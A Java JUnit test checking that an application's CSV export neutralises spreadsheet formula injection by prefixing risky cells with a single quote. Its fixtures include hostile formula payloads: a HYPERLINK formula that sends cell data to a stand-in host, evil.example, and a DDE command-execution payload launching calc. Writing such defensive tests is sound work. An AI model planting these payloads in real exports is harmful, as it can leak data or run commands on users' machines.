package org.niaptracker.export;

import java.util.List;

import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.niaptracker.test.PostgresTest;
import org.niaptracker.test.Reports;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Text that a spreadsheet would run as a formula (OWASP's CSV injection) leaves the CSV
 * export as text: a leading single quote, the rest unchanged.
 */
@PostgresTest
class CsvInjectionTest {

	private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

	@Autowired
	private MockMvc mvc;

	@Autowired
	private JdbcTemplate jdbc;

	@BeforeEach
	void hostileReport() {
		Reports.insertReportWithActions(this.jdbc, "QJ", 1, 1, () -> {
			this.jdbc.update("update pillar set name = '@SUM(1+1)*cmd|'' /C calc''!A0'"
					+ " where party_id = (select id from party where code = 'QJ')");
			this.jdbc
				.update("""
						update niap_action set title = '+1+1'
						 where pillar_id in (select pl.id from pillar pl join party p on p.id = pl.party_id where p.code = 'QJ')""");
		});
		this.jdbc.update("""
				update evaluation set progress_points = array[?, 'A plain point = fine', '-2+3']
				 where reporting_period_id in (select rp.id from reporting_period rp
				                                 join party p on p.id = rp.party_id where p.code = 'QJ')""", FORMULA);
	}

	@Test
	void formulaCellsGetALeadingQuoteAndKeepTheirText() throws Exception {
		CSVRecord row = csv().get(0);
		assertThat(row.get("pillar_name")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
		assertThat(row.get("title")).isEqualTo("'+1+1");
		assertThat(row.get("points")).startsWith("'" + FORMULA + "\n").endsWith("\nA plain point = fine\n-2+3");
		assertThat(row.get("action")).as("plain text unchanged").isEqualTo("1.1");
		assertThat(row.get("party")).isEqualTo("QJ");
		for (String cell : row.values()) {
			assertThat(cell).as("no cell starts like a formula")
				.doesNotStartWith("=")
				.doesNotStartWith("+")
				.doesNotStartWith("-")
				.doesNotStartWith("@")
				.doesNotStartWith("\t")
				.doesNotStartWith("\r");
		}
	}

	@Test
	void tabAndCarriageReturnAtTheStartAreNeutralisedToo() throws Exception {
		this.jdbc.update("""
				update evaluation set progress_points = array[E'\\tTabbed', E'\\rReturned']
				 where reporting_period_id in (select rp.id from reporting_period rp
				                                 join party p on p.id = rp.party_id where p.code = 'QJ')""");
		assertThat(csv().get(0).get("points")).isEqualTo("'\tTabbed\n\rReturned");
	}

	private List<CSVRecord> csv() throws Exception {
		byte[] body = this.mvc.perform(get("/parties/QJ/reports/SC66/evaluations.csv"))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsByteArray();
		return ExportTest.csv(body);
	}

}
